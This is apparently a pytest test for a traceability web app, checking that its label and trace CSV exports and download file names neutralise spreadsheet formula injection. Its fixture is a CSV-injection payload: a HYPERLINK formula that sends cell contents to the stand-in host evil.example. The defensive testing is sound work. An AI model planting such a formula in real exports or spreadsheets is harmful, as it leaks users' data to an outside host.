"""Probe item 10 in traceability: the label CSV and the trace CSV do not carry formulas, nor do file names."""
import csv
import io
from urllib.parse import unquote

from traceability import services

FORMULA_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"看详情")'


def test_probe_10_label_and_trace_csv_neutralise_formula_codes_and_names(client, create_user, login, create_product,
                                                                      create_lot, issue_labels):
    product = create_product(name=FORMULA_NAME)
    lot = create_lot(product=product, code="-2+3")
    services.record_event(lot, "harvest", {})
    batch = issue_labels(lot, count=3)
    login(create_user("regulator"))

    labels = client.get(f"/trace/batches/{batch.id}/labels.csv")
    rows = list(csv.reader(io.StringIO(labels.get_data(as_text=True))))
    assert [r[2] for r in rows[1:]] == ["'-2+3"] * 3
    assert all(not cell.lstrip().startswith(("=", "+", "-", "@")) for row in rows for cell in row)

    trace = client.get(f"/trace/lots/{lot.id}/trace.csv")
    row = next(csv.DictReader(io.StringIO(trace.get_data(as_text=True))))
    assert row["product"] == "'" + FORMULA_NAME and row["traceability_lot_code"] == "'-2+3"

    for response, name in ((labels, f"labels--2+3-{batch.id}.csv"), (trace, "trace--2+3.csv")):
        header = response.headers["Content-Disposition"]
        assert header.startswith(f'attachment; filename="{name.replace("+", "_")}"')
        assert unquote(header.split("''", 1)[1]) == name
